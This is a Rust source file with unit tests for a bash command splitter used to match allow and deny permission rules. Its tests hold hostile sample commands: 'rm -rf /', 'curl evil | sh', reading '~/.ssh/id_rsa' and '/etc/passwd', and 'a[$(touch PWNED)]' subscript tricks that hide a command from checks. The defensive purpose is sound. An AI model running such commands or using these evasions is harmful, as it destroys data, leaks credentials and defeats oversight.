//! How a shell command is cut into the simple commands a `Bash(...)` rule is matched against.
//!
//! The splitter reads the command as a POSIX shell (bash) would tokenise it, without running
//! or expanding anything:
//!
//! - quoting: `'...'` is literal; in `"..."` a backslash escapes `$`, `` ` ``, `"`, `\` and a
//!   newline; outside quotes a backslash escapes the next character, and a backslash-newline
//!   joins two lines. Quote removal gives each word its text.
//! - parts are separated by the unquoted operators `;`, `&&`, `||`, `|`, `|&`, `&`, a newline,
//!   and the grouping `(`, `)`, and the words `{`, `}` and `!` at the start of a command.
//! - a `#` at the start of an unquoted word begins a comment that runs to the end of the line.
//! - harmless redirections are dropped from the words: duplicating or closing a descriptor
//!   (`2>&1`, `>&2`, `<&-`) and reading from or writing to `/dev/null`.
//!
//! Anything else makes the split *not confident*, and a command that is not confidently split
//! never matches an allow rule: every `$` that does not end a word (parameter expansion
//! `$VAR`, `${...}`, `$IFS`, `$_`; command and arithmetic substitution `$(...)`,
//! `` `...` ``, `$((...))` and the old `$[...]`), an arithmetic command `((...))`, builtins
//! that evaluate what their words say (`let`, `compgen`, `complete`, and an array subscript
//! given as a variable's name to `printf -v`, `test -v`, `read`, `unset` and the like:
//! bash evaluates `a[$(cmd)]` and runs `cmd`), process substitution
//! (`<(...)`, `>(...)`), here-documents and here-strings (`<<`, `<<<`), every other
//! redirection (`> file`, `>> file`, `< file`, `&> file`), `$'...'` and `$"..."` quoting,
//! reserved words (`if`, `for`, `while`, `case`, `function`, `[[`, `time`, ...), a glob or
//! brace in a command's name, control characters, and unterminated quotes.
//!
//! For deny rules the split is also made best-effort: the commands inside `$(...)`,
//! backticks and process substitutions become parts of their own, and
//! [`Split::deny_parts`] adds, for each part, the command behind leading `VAR=value`
//! assignments and behind wrappers that run their arguments (`env`, `sudo`, `nohup`, `nice`,
//! `timeout`, `command`, `exec`, `xargs`, `time`), and the commands in `bash -c '...'`,
//! `sh -c '...'` and `eval ...`.

/// One simple command: its words after quote removal.
pub type Part = Vec<String>;

/// A command cut into parts.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Split {
    /// The simple commands, in order. With [`Split::confident`] false, a best effort (the
    /// commands inside substitutions included).
    pub parts: Vec<Part>,
    /// Whether every construct in the command was understood: only then may the command
    /// match an allow rule.
    pub confident: bool,
    /// Why it is not confident (the first reason found).
    pub doubt: Option<&'static str>,
}

/// Commands that run the command given in their arguments.
const WRAPPERS: &[&str] = &[
    "env", "sudo", "doas", "nohup", "nice", "ionice", "timeout", "command", "builtin", "exec",
    "xargs", "time", "stdbuf", "chronic", "unbuffer", "setsid", "watch", "strace", "ltrace",
];

/// Shells whose `-c` argument is a command.
const SHELLS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "mksh", "ash", "fish", "busybox",
];

/// Words that start a compound command or change how the next command runs.
const RESERVED: &[&str] = &[
    "if", "then", "else", "elif", "fi", "for", "while", "until", "do", "done", "case", "esac",
    "select", "function", "in", "[[", "]]", "time", "coproc", "declare", "typeset", "local",
    "alias", "trap", "source", ".",
];

/// How deep substitutions inside substitutions are followed for the best-effort parts.
const MAX_DEPTH: usize = 8;

impl Split {
    /// The parts a deny rule is matched against: every part, and for each also what it runs
    /// (see the module's documentation).
    pub fn deny_parts(&self) -> Vec<Part> {
        let mut out = Vec::new();
        for p in &self.parts {
            unwrap_into(p, &mut out, 0);
        }
        out
    }
}

fn unwrap_into(part: &[String], out: &mut Vec<Part>, depth: usize) {
    if part.is_empty() {
        return;
    }
    out.push(part.to_vec());
    if depth > MAX_DEPTH {
        return;
    }
    // Leading assignments.
    let start = part.iter().take_while(|w| is_assignment(w)).count();
    if start > 0 {
        unwrap_into(&part[start..], out, depth + 1);
        return;
    }
    let name = basename(&part[0]);
    if WRAPPERS.contains(&name) {
        // The first word after the wrapper's options (and, for `env`, its assignments; for
        // `timeout`, its duration) that reads as a command: every later start is tried, so
        // an option taking a value cannot hide the command.
        for k in 1..part.len() {
            let w = &part[k];
            if w.starts_with('-') || is_assignment(w) {
                continue;
            }
            unwrap_into(&part[k..], out, depth + 1);
        }
        return;
    }
    if name == "eval" {
        let text = part[1..].join(" ");
        for p in split(&text).parts {
            unwrap_into(&p, out, depth + 1);
        }
        return;
    }
    if SHELLS.contains(&name) {
        // `bash -c CMD`, `bash -lc CMD`, `bash -e -c CMD`.
        let mut k = 1;
        while k < part.len() {
            let w = &part[k];
            if w.starts_with('-') && !w.starts_with("--") && w.contains('c') {
                if let Some(cmd) = part.get(k + 1) {
                    for p in split(cmd).parts {
                        unwrap_into(&p, out, depth + 1);
                    }
                }
                return;
            }
            if !w.starts_with('-') {
                return;
            }
            k += 1;
        }
    }
    if name == "find" {
        // `find ... -exec CMD {} ;` and friends: the command between the action and its end.
        let mut k = 1;
        while k < part.len() {
            if matches!(part[k].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = part[k + 1..]
                    .iter()
                    .position(|w| w == ";" || w == "+")
                    .map_or(part.len(), |e| k + 1 + e);
                unwrap_into(&part[k + 1..end], out, depth + 1);
                k = end;
            }
            k += 1;
        }
    }
}

/// `NAME=value`, as the shell reads an assignment before a command.
pub fn is_assignment(word: &str) -> bool {
    match word.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && !name.starts_with(|c: char| c.is_ascii_digit())
                && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        }
        None => false,
    }
}

/// Builtins that evaluate their arguments as code: `let` (arithmetic), `compgen` and
/// `complete` (word lists and commands).
const EVALUATING: &[&str] = &["let", "compgen", "complete"];

/// Builtins that take a variable's name, where an array subscript (`a[$(cmd)]`) is evaluated
/// as arithmetic and so runs the command inside it; `printf` only with `-v`, `test` and `[`
/// only with `-v` or `-R`.
const NAMING: &[&str] = &[
    "read",
    "mapfile",
    "readarray",
    "unset",
    "wait",
    "getopts",
    "export",
    "readonly",
    "printf",
    "test",
    "[",
];

/// Why `part` is not confident as a builtin that evaluates what its words say (see
/// [`EVALUATING`] and [`NAMING`]), looking behind leading assignments and `command` or
/// `builtin`, which run the builtin itself.
fn evaluating_builtin(part: &[String]) -> Option<&'static str> {
    let mut at = part.iter().take_while(|w| is_assignment(w)).count();
    while let Some(w) = part.get(at) {
        if !matches!(w.as_str(), "command" | "builtin") {
            break;
        }
        at += 1;
        while part.get(at).is_some_and(|w| w.starts_with('-')) {
            at += 1;
        }
    }
    let name = part.get(at)?.as_str();
    let args = &part[at + 1..];
    if EVALUATING.contains(&name) {
        return Some("a builtin that evaluates its arguments (let, compgen, complete)");
    }
    if !NAMING.contains(&name) {
        return None;
    }
    let flagged = |flags: &[char]| {
        args.iter().any(|a| {
            a.starts_with('-') && !a.starts_with("--") && a[1..].chars().any(|c| flags.contains(&c))
        })
    };
    let names = match name {
        "printf" => flagged(&['v']),
        "test" | "[" => flagged(&['v', 'R']),
        _ => true,
    };
    (names && args.iter().any(|a| a.contains('[')))
        .then_some("an array subscript a builtin evaluates (`a[$(...)]`)")
}

/// The last path segment of a command name (`/usr/bin/env` → `env`).
fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Whether a part runs another command given in its own words: `find -exec` and the like.
/// An allow rule's wildcard never reaches over those words (see `pattern`).
pub fn exec_words(part: &[String]) -> Vec<&str> {
    if part.first().map(|w| basename(w)) != Some("find") {
        return Vec::new();
    }
    part.iter()
        .map(String::as_str)
        .filter(|w| {
            matches!(
                *w,
                "-exec"
                    | "-execdir"
                    | "-ok"
                    | "-okdir"
                    | "-delete"
                    | "-fprint"
                    | "-fprintf"
                    | "-fls"
            )
        })
        .collect()
}

/// Cuts `command` into parts (see the module's documentation).
pub fn split(command: &str) -> Split {
    let mut lexer = Lexer {
        chars: command.chars().collect(),
        at: 0,
        out: Split {
            confident: true,
            ..Split::default()
        },
        depth: 0,
    };
    lexer.run();
    let mut out = lexer.out;
    out.parts.retain(|p| !p.is_empty());
    if out.parts.is_empty() {
        out.confident = false;
        out.doubt.get_or_insert("there is no command");
    }
    out
}

struct Lexer {
    chars: Vec<char>,
    at: usize,
    out: Split,
    depth: usize,
}

/// The word being read.
#[derive(Default)]
struct Word {
    text: String,
    /// Whether anything (even an empty quote) started it.
    started: bool,
    /// Whether an unquoted glob or brace character is in it.
    pattern: bool,
}

impl Lexer {
    fn doubt(&mut self, why: &'static str) {
        if self.out.confident {
            self.out.confident = false;
            self.out.doubt = Some(why);
        }
    }

    fn peek(&self, ahead: usize) -> Option<char> {
        self.chars.get(self.at + ahead).copied()
    }

    fn run(&mut self) {
        let mut part: Part = Vec::new();
        let mut word = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' => {
                    self.at += 1;
                    self.end_word(&mut part, &mut word);
                }
                '\n' | ';' | '(' | ')' => {
                    if c == '(' && self.peek(1) == Some('(') {
                        self.doubt("an arithmetic command `((...))`");
                    }
                    self.at += 1;
                    if c == ';' && self.peek(0) == Some(';') {
                        self.doubt("`;;` belongs to a case statement");
                    }
                    if c == '(' && word.started {
                        self.doubt("a `(` inside a word (a function definition?)");
                    }
                    self.end_word(&mut part, &mut word);
                    self.end_part(&mut part);
                }
                '&' | '|' => self.and_or(c, &mut part, &mut word),
                '<' | '>' => self.angle(&mut part, &mut word),
                '#' if !word.started => {
                    while let Some(c) = self.peek(0) {
                        if c == '\n' {
                            break;
                        }
                        self.at += 1;
                    }
                }
                '\'' => {
                    self.at += 1;
                    word.started = true;
                    self.single_quoted(&mut word);
                }
                '"' => {
                    self.at += 1;
                    word.started = true;
                    self.double_quoted(&mut word);
                }
                '\\' => {
                    self.at += 1;
                    self.escaped(&mut word);
                }
                '$' => {
                    word.started = true;
                    self.dollar(&mut word, false);
                }
                '`' => {
                    self.doubt("command substitution");
                    self.at += 1;
                    word.started = true;
                    word.text.push('\u{1}');
                    self.backticks();
                }
                c => {
                    self.check_char(c);
                    if matches!(c, '*' | '?' | '[' | ']' | '{' | '}') {
                        word.pattern = true;
                    }
                    word.started = true;
                    word.text.push(c);
                    self.at += 1;
                }
            }
        }
        self.end_word(&mut part, &mut word);
        self.end_part(&mut part);
    }

    /// At `&` or `|`: a redirection (`&>`), or an operator (`&`, `&&`, `|`, `||`) that ends
    /// the part.
    fn and_or(&mut self, c: char, part: &mut Part, word: &mut Word) {
        if c == '&' && self.peek(1) == Some('>') {
            self.end_word(part, word);
            self.redirection();
            return;
        }
        self.at += 1;
        if matches!(self.peek(0), Some('&') | Some('|')) {
            self.at += 1;
        }
        self.end_word(part, word);
        self.end_part(part);
    }

    /// At `<` or `>`: a process substitution, or a redirection.
    fn angle(&mut self, part: &mut Part, word: &mut Word) {
        // A word of digits right before is the descriptor (`2>`).
        if word.started && !word.text.chars().all(|d| d.is_ascii_digit()) {
            self.end_word(part, word);
        } else {
            *word = Word::default();
        }
        if self.peek(1) == Some('(') {
            self.doubt("process substitution");
            self.at += 2;
            self.nested(')');
            return;
        }
        self.redirection();
    }

    /// After a `'`: reads to the closing one, every character as it is.
    fn single_quoted(&mut self, word: &mut Word) {
        loop {
            match self.peek(0) {
                None => {
                    self.doubt("an unterminated quote");
                    break;
                }
                Some('\'') => {
                    self.at += 1;
                    break;
                }
                Some(c) => {
                    self.check_char(c);
                    word.text.push(c);
                    self.at += 1;
                }
            }
        }
    }

    /// After a `\` outside quotes: the next character as it is, a line continuation, or
    /// nothing (a doubt).
    fn escaped(&mut self, word: &mut Word) {
        match self.peek(0) {
            None => self.doubt("a backslash at the end"),
            Some('\n') => self.at += 1,
            Some(c) => {
                self.check_char(c);
                word.started = true;
                word.text.push(c);
                self.at += 1;
            }
        }
    }

    fn check_char(&mut self, c: char) {
        if c.is_control() && c != '\t' && c != '\n' {
            self.doubt("a control character");
        }
    }

    fn end_word(&mut self, part: &mut Part, word: &mut Word) {
        if !word.started {
            return;
        }
        let w = std::mem::take(word);
        let at_name = part.iter().all(|p| is_assignment(p));
        if part.is_empty() {
            // Grouping and negation: the command follows.
            if matches!(w.text.as_str(), "{" | "}" | "!") {
                return;
            }
            if RESERVED.contains(&w.text.as_str()) {
                self.doubt("a reserved word (if, for, while, ...)");
            }
        }
        if at_name && w.pattern && !is_assignment(&w.text) {
            self.doubt("a glob or brace in a command's name");
        }
        part.push(w.text);
    }

    fn end_part(&mut self, part: &mut Part) {
        if let Some(why) = evaluating_builtin(part) {
            self.doubt(why);
        }
        if !part.is_empty() {
            self.out.parts.push(std::mem::take(part));
        }
    }

    fn double_quoted(&mut self, word: &mut Word) {
        loop {
            match self.peek(0) {
                None => {
                    self.doubt("an unterminated quote");
                    return;
                }
                Some('"') => {
                    self.at += 1;
                    return;
                }
                Some('\\') => {
                    self.at += 1;
                    match self.peek(0) {
                        Some('\n') => self.at += 1,
                        Some(c @ ('$' | '`' | '"' | '\\')) => {
                            word.text.push(c);
                            self.at += 1;
                        }
                        Some(_) => word.text.push('\\'),
                        None => {}
                    }
                }
                Some('$') => self.dollar(word, true),
                Some('`') => {
                    self.doubt("command substitution");
                    self.at += 1;
                    word.text.push('\u{1}');
                    self.backticks();
                }
                Some(c) => {
                    self.check_char(c);
                    word.text.push(c);
                    self.at += 1;
                }
            }
        }
    }

    /// At a `$`; `quoted` inside double quotes.
    ///
    /// Only a `$` that ends a word (before a blank, a newline, the end, or the closing `"`)
    /// is read as itself: before anything else bash may expand it (`$VAR`, `${...}`,
    /// `$(...)`, `$((...))`, the old arithmetic `$[...]`, which evaluates array subscripts
    /// and so runs the `$(...)` in a variable's value), and a construct not listed here is
    /// a doubt rather than a guess.
    fn dollar(&mut self, word: &mut Word, quoted: bool) {
        self.at += 1;
        match self.peek(0) {
            Some('(') => {
                self.doubt(if self.peek(1) == Some('(') {
                    "arithmetic expansion"
                } else {
                    "command substitution"
                });
                self.at += 1;
                word.text.push('\u{1}');
                self.nested(')');
            }
            Some('[') => {
                self.doubt("arithmetic expansion");
                word.text.push('$');
            }
            Some('{') => {
                self.doubt("parameter expansion");
                word.text.push('$');
            }
            Some('\'' | '"') if !quoted => {
                self.doubt("`$'...'` or `$\"...\"` quoting");
                word.text.push('$');
            }
            // A lone `$` stays a `$`.
            None | Some(' ' | '\t' | '\n') => word.text.push('$'),
            Some('"') => word.text.push('$'),
            Some(_) => {
                self.doubt("parameter expansion");
                word.text.push('$');
            }
        }
    }

    /// After `$(` or `<(`: reads to the matching `)` and splits what is inside into parts of
    /// their own (best effort).
    fn nested(&mut self, close: char) {
        let start = self.at;
        let mut depth = 1usize;
        let (mut single, mut double) = (false, false);
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match c {
                '\\' if !single => self.at += 1,
                '\'' if !double => single = !single,
                '"' if !single => double = !double,
                '(' if !single && !double => depth += 1,
                c if c == close && !single && !double => {
                    depth -= 1;
                    if depth == 0 {
                        let inner: String = self.chars[start..self.at - 1].iter().collect();
                        self.inner(&inner);
                        return;
                    }
                }
                _ => {}
            }
        }
        self.doubt("an unterminated substitution");
        let inner: String = self.chars[start.min(self.chars.len())..].iter().collect();
        self.inner(&inner);
    }

    /// After a backtick: reads to the next unescaped one.
    fn backticks(&mut self) {
        let mut inner = String::new();
        while let Some(c) = self.peek(0) {
            self.at += 1;
            match c {
                '\\' => {
                    if let Some(n) = self.peek(0) {
                        inner.push(n);
                        self.at += 1;
                    }
                }
                '`' => {
                    self.inner(&inner);
                    return;
                }
                c => inner.push(c),
            }
        }
        self.doubt("an unterminated substitution");
        self.inner(&inner);
    }

    fn inner(&mut self, text: &str) {
        if self.depth >= MAX_DEPTH {
            return;
        }
        let mut sub = Lexer {
            chars: text.chars().collect(),
            at: 0,
            out: Split {
                confident: true,
                ..Split::default()
            },
            depth: self.depth + 1,
        };
        sub.run();
        self.out.parts.extend(sub.out.parts);
    }

    /// At a redirection operator (`<`, `>`, `>>`, `>|`, `<>`, `<&`, `>&`, `&>`, `&>>`, `<<`,
    /// `<<<`): reads it and its target; a harmless one is dropped, any other is a doubt.
    fn redirection(&mut self) {
        let op = self.redirection_op();
        self.at += op.len();
        if op.starts_with("<<") {
            self.doubt("a here-document or here-string");
            return;
        }
        while matches!(self.peek(0), Some(' ' | '\t')) {
            self.at += 1;
        }
        let target = self.redirection_target();
        let t = target.text.as_str();
        let duplicates = op.ends_with('&')
            && op != "&"
            && (t == "-" || (!t.is_empty() && t.chars().all(|c| c.is_ascii_digit())));
        let null = t == "/dev/null" && matches!(op, ">" | ">>" | "<" | "&>" | "&>>" | ">|");
        if !(duplicates || null) {
            self.doubt("a redirection to or from a file");
        }
    }

    /// The redirection operator at the current position (not yet read).
    fn redirection_op(&self) -> &'static str {
        match (self.peek(0), self.peek(1)) {
            (Some('&'), _) => {
                if self.peek(2) == Some('>') {
                    "&>>"
                } else {
                    "&>"
                }
            }
            (Some('<'), Some('<')) => "<<",
            (Some('<'), Some('&')) => "<&",
            (Some('<'), Some('>')) => "<>",
            (Some('<'), _) => "<",
            (Some('>'), Some('>')) => ">>",
            (Some('>'), Some('&')) => ">&",
            (Some('>'), Some('|')) => ">|",
            _ => ">",
        }
    }

    /// A redirection's target: one word, read as any other.
    fn redirection_target(&mut self) -> Word {
        let mut target = Word::default();
        while let Some(c) = self.peek(0) {
            match c {
                ' ' | '\t' | '\n' | ';' | '&' | '|' | '<' | '>' | '(' | ')' => break,
                '\'' => {
                    self.at += 1;
                    target.started = true;
                    while let Some(c) = self.peek(0) {
                        self.at += 1;
                        if c == '\'' {
                            break;
                        }
                        target.text.push(c);
                    }
                }
                '"' => {
                    self.at += 1;
                    target.started = true;
                    self.double_quoted(&mut target);
                }
                '\\' => {
                    self.at += 1;
                    if let Some(c) = self.peek(0) {
                        target.text.push(c);
                        self.at += 1;
                    }
                }
                '$' => {
                    target.started = true;
                    self.dollar(&mut target, false);
                }
                '`' => {
                    self.doubt("command substitution");
                    self.at += 1;
                    self.backticks();
                }
                c => {
                    target.started = true;
                    target.text.push(c);
                    self.at += 1;
                }
            }
        }
        target
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &Split) -> Vec<Vec<&str>> {
        s.parts
            .iter()
            .map(|p| p.iter().map(String::as_str).collect())
            .collect()
    }

    #[track_caller]
    fn confident(cmd: &str, expected: &[&[&str]]) {
        let s = split(cmd);
        assert!(s.confident, "{cmd:?}: not confident ({:?})", s.doubt);
        let want: Vec<Vec<&str>> = expected.iter().map(|p| p.to_vec()).collect();
        assert_eq!(words(&s), want, "{cmd:?}");
    }

    #[track_caller]
    fn doubtful(cmd: &str) -> Split {
        let s = split(cmd);
        assert!(
            !s.confident,
            "{cmd:?} should not be confident: {:?}",
            words(&s)
        );
        s
    }

    #[test]
    fn operators_separate_parts() {
        confident("git status", &[&["git", "status"]]);
        confident("a && b", &[&["a"], &["b"]]);
        confident("a&&b", &[&["a"], &["b"]]);
        confident("a; b", &[&["a"], &["b"]]);
        confident("a;b", &[&["a"], &["b"]]);
        confident("a || b", &[&["a"], &["b"]]);
        confident("a | b", &[&["a"], &["b"]]);
        confident("a |& b", &[&["a"], &["b"]]);
        confident("a & b", &[&["a"], &["b"]]);
        confident("a\nb", &[&["a"], &["b"]]);
        confident("(a; b) && c", &[&["a"], &["b"], &["c"]]);
        confident("{ a; b; }", &[&["a"], &["b"]]);
        confident("! a", &[&["a"]]);
        confident("a # ; rm -rf /", &[&["a"]]);
        confident("a #x\nb", &[&["a"], &["b"]]);
        confident("a b#c", &[&["a", "b#c"]]);
    }

    #[test]
    fn quotes_keep_operators_inside_a_word() {
        confident("echo 'a; rm -rf /'", &[&["echo", "a; rm -rf /"]]);
        confident("echo \"a && b\"", &[&["echo", "a && b"]]);
        confident("echo a\\;b", &[&["echo", "a;b"]]);
        confident("echo \"a\\\"b\"", &[&["echo", "a\"b"]]);
        confident("echo 'a'\"b\"c", &[&["echo", "abc"]]);
        confident("echo ''", &[&["echo", ""]]);
        confident("git sta\\\ntus", &[&["git", "status"]]);
        confident(
            "find . -name x -exec rm {} \\;",
            &[&["find", ".", "-name", "x", "-exec", "rm", "{}", ";"]],
        );
        confident("echo $", &[&["echo", "$"]]);
        confident("npm test 2>&1", &[&["npm", "test"]]);
        confident("npm test >/dev/null 2>&1", &[&["npm", "test"]]);
        confident("npm test &>/dev/null", &[&["npm", "test"]]);
        confident("cat </dev/null", &[&["cat"]]);
        confident("FOO=1 make", &[&["FOO=1", "make"]]);
    }

    #[test]
    fn what_cannot_be_read_confidently() {
        for cmd in [
            "echo $HOME",
            "echo ${HOME}",
            "ls$IFS-la",
            "echo \"$(id)\"",
            "echo $(rm -rf /)",
            "echo `rm -rf /`",
            "echo $((1+2))",
            "diff <(ls a) <(ls b)",
            "tee >(rm x)",
            "cat <<EOF\nhi\nEOF",
            "cat <<< hi",
            "echo x > ~/.bashrc",
            "echo x >> f",
            "cat < /etc/passwd",
            "echo x &> f",
            "echo $'\\x3b'",
            "if true; then rm x; fi",
            "for f in *; do rm $f; done",
            "case x in x) rm y;; esac",
            "function f { rm x; }",
            "f() { rm x; }",
            "/bin/r? -rf /",
            "{rm,-rf,/}",
            "echo 'unterminated",
            "echo \"unterminated",
            "echo \u{7}bell",
            "echo hi \\",
            "time rm x",
            "",
            "   ",
            ";",
        ] {
            doubtful(cmd);
        }
    }

    #[test]
    fn every_expansion_bash_evaluates_is_a_doubt() {
        for cmd in [
            // `$_` holds the quoted text; `$[_]` evaluates it as arithmetic, running `$(...)`.
            "git status 'a[$(touch PWNED)]'; git status $[_]",
            "git status 'a[$(touch PWNED)]' && git status \"$[_]\"",
            "git status 'a[$(touch PWNED)]'\ngit status $[_]",
            "echo {1..$[_]}",
            "git status $[X]",
            "echo $[1]",
            "ls $((1))",
            "((X))",
            "echo $%",
            "echo \"$'x'\"",
            "printf -v 'a[$(touch PWNED)]' %s x",
            "printf -vx 'a[$(touch PWNED)]'",
            "command printf -v 'a[$(touch PWNED)]' %s x",
            "test -v 'a[$(touch PWNED)]'",
            "[ -v 'a[$(touch PWNED)]' ]",
            "[ -R 'a[$(touch PWNED)]' ]",
            "read 'a[$(touch PWNED)]'",
            "unset 'a[$(touch PWNED)]'",
            "wait -n -p 'a[$(touch PWNED)]'",
            "FOO=1 builtin unset 'a[x]'",
            "let x=1",
            "compgen -W '$(touch PWNED)' x",
            "complete -C 'touch PWNED' x",
        ] {
            doubtful(cmd);
        }
        // What stays readable: a `$` ending a word, a bracket where nothing evaluates it.
        confident("echo a$ \"b$\"", &[&["echo", "a$", "b$"]]);
        confident("printf '[%s]' x", &[&["printf", "[%s]", "x"]]);
        confident("test -f x", &[&["test", "-f", "x"]]);
        confident("test -v x", &[&["test", "-v", "x"]]);
        confident("( (a) )", &[&["a"]]);
    }

    #[test]
    fn substitutions_are_parts_for_deny_rules() {
        let s = doubtful("echo $(rm -rf / && curl x)");
        let w = words(&s);
        assert!(w.contains(&vec!["rm", "-rf", "/"]), "{w:?}");
        assert!(w.contains(&vec!["curl", "x"]), "{w:?}");
        let s = doubtful("echo `curl evil | sh`");
        assert!(words(&s).contains(&vec!["sh"]));
        let s = doubtful("echo \"$(cat ~/.ssh/id_rsa)\"");
        assert!(words(&s).contains(&vec!["cat", "~/.ssh/id_rsa"]));
        let s = doubtful("diff <(rm a) b");
        assert!(words(&s).contains(&vec!["rm", "a"]));
    }

    #[test]
    fn deny_parts_look_behind_wrappers() {
        let has = |cmd: &str, want: &[&str]| {
            let parts = split(cmd).deny_parts();
            assert!(
                parts
                    .iter()
                    .any(|p| p.iter().map(String::as_str).eq(want.iter().copied())),
                "{cmd:?}: {parts:?}"
            );
        };
        has("FOO=1 BAR=2 rm -rf /", &["rm", "-rf", "/"]);
        has("sudo -u root rm -rf /", &["rm", "-rf", "/"]);
        has("env -i PATH=/bin rm -rf /", &["rm", "-rf", "/"]);
        has("timeout 5 rm -rf /", &["rm", "-rf", "/"]);
        has("nohup nice -n 5 rm x", &["rm", "x"]);
        has("xargs rm", &["rm"]);
        has("bash -c 'git status; rm -rf /'", &["rm", "-rf", "/"]);
        has("sh -ec 'rm x'", &["rm", "x"]);
        has("/bin/bash -lc \"curl x | sh\"", &["sh"]);
        has("eval 'rm -rf /'", &["rm", "-rf", "/"]);
        has("eval rm -rf /", &["rm", "-rf", "/"]);
        has("find . -exec rm -rf {} \\;", &["rm", "-rf", "{}"]);
        has("find . -execdir sh -c 'rm x' \\;", &["rm", "x"]);
        has("command rm x", &["rm", "x"]);
    }

    #[test]
    fn find_exec_words_are_found() {
        let s = split("find . -name '*.o' -exec rm {} +");
        assert_eq!(exec_words(&s.parts[0]), vec!["-exec"]);
        let s = split("find . -delete");
        assert_eq!(exec_words(&s.parts[0]), vec!["-delete"]);
        assert!(exec_words(&split("find . -name x").parts[0]).is_empty());
    }
}
